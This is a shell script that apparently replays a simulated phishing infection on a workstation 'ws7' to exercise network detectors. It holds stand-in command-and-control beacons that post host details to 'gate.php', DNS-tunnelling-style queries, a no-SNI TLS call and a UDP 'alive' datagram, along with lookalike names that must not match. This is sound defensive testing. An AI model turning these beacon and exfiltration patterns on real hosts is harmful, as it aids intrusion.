# ws7 looks at harmless pages, follows a link of the phishing mail, fetches the
# download and begins to call home. Run as ws7 inside its namespace.
c() { curl -q -s -o /dev/null --max-time 8 --cacert /srv/tls/ca.pem "$@" || true; }
FIREFOX='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
CHROME='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36'

# names of every record type, over UDP and TCP, IPv4 and IPv6
q() { dig +noall +tries=1 +timeout=2 "$@" >/dev/null || true; }
q @198.51.100.53 corp.example SOA
q @198.51.100.53 corp.example MX
q @198.51.100.53 corp.example TXT
q @198.51.100.53 corp.example CAA
q @2001:db8:2::53 _ldap._tcp.corp.example SRV
q @2001:db8:2::53 www.corp.example HTTPS
q @198.51.100.53 gray-heron.test NS
q @198.51.100.53 brightparcel.example MX
q @198.51.100.53 login.brightparcel.example A
q @2001:db8:2::53 www.brightparcel.example AAAA
q @198.51.100.53 PANEL.Gray-Heron.TEST A
q @198.51.100.53 _beacon._tcp.gray-heron.test SRV
q @198.51.100.53 svc.parcelcdn.test HTTPS
q @198.51.100.53 svc.parcelcdn.test TYPE64
q @198.51.100.53 parcelcdn.test HTTPS
q @198.51.100.53 +noedns edge8.parcelcdn.test A
q @198.51.100.53 cfg.gray-heron.test TXT
q @198.51.100.53 mfrggzdfmztwq2lk.nbswy3dp.t.gray-heron.test TXT
q @2001:db8:2::53 +tcp edge8.parcelcdn.test A
q @198.51.100.53 +bufsize=512 big.gray-heron.test TXT
q @198.51.100.53 www.xn--mnchner-paket-wob.example A
q @198.51.100.53 -x 203.0.113.66
q @198.51.100.53 -x 2001:db8:bad::66
q @198.51.100.53 a8f3kq.gray-heron.test A
q @198.51.100.53 nothing-here.invalid A
# must not match: the bad names stand inside longer ones
q @198.51.100.53 notgray-heron.lookalikes.test A
q @198.51.100.53 brightparcel.example.lookalikes.test A
q @198.51.100.53 203.0.113.66.lookalikes.test A
q @198.51.100.53 gray-heron.test.corp.example A

# plain HTTP
c -A "$FIREFOX" http://www.corp.example/
c -6 -A "$FIREFOX" http://www.corp.example/robots.txt
c -4 -I -A "$CHROME" http://intranet.corp.example/old
c -4 -L -A "$CHROME" -e 'http://webmail.corp.example/inbox/7' 'http://track.brightparcel.example/t?id=ws7-0042&u=ana.ruiz%40corp.example'
c -4 --compressed -A "$CHROME" -e http://www.brightparcel.example/ http://www.brightparcel.example/beacon.js
c -6 -A "$CHROME" http://login.brightparcel.example/login
c -6 -A "$CHROME" http://dl.kestrel-update.example/dl/invoice-7731.zip
c -4 -A 'KestrelUpdater/1.4' -r 0-1023 http://dl.kestrel-update.example/dl/KestrelSetup.bin
c -4 -A "$FIREFOX" http://www.xn--mnchner-paket-wob.example/
# two requests over one connection, an escaped path, dot segments, a port in Host
c -4 -A "$FIREFOX" --path-as-is 'http://track.brightparcel.example/a/../%7euser/?q=1' 'http://track.brightparcel.example:80/beacon.js?v=2' -o /dev/null
c -4 -A 'gh/0.9' -H 'X-Forwarded-For: 203.0.113.99, 2001:db8:bad::99' http://203.0.113.66/gate.php
c -6 -A 'gh/0.9' 'http://[2001:db8:bad::66]/gate.php?h=ws7'
c -4 -A 'gh/0.9' -d 'id=ws7&os=linux' http://api.gray-heron.test/gate.php
c -4 -A 'gh/0.9' -X PUT -H 'Transfer-Encoding: chunked' -d 'chunk=1' http://api.gray-heron.test/collect
# a request to resemble one through a proxy: absolute form, Host of another
c -4 -x http://203.0.113.66:80 -A 'gh/0.9' http://www.corp.example/gate.php

# TLS
c -4 -A "$FIREFOX" https://www.corp.example/
c -6 -A "$FIREFOX" https://intranet.corp.example/app.js
c -4 --tls-max 1.2 -A 'gh/0.9' https://panel.gray-heron.test/
c -4 -A 'gh/0.9' https://panel.gray-heron.test:8443/api/v2/tasks
c -6 --http1.1 -A 'gh/0.9' -d 'k=v' https://api.gray-heron.test:8443/collect
c -4 -A "$CHROME" https://login.brightparcel.example/
# no SNI, the address instead of a name
c -4 -k -A 'gh/0.9' https://203.0.113.66/
echo | timeout 5 openssl s_client -quiet -tls1_2 -connect 203.0.113.66:8443 -servername update.gray-heron.test >/dev/null 2>&1 || true

# other things on the wire: a ping, a closed port, a datagram
ping -c 1 -W 1 203.0.113.80 >/dev/null || true
ping -c 1 -W 1 2001:db8:bad::66 >/dev/null || true
c -4 http://203.0.113.25:9001/
echo 'ws7 alive' | socat -u - UDP4-SENDTO:203.0.113.66:4444 || true
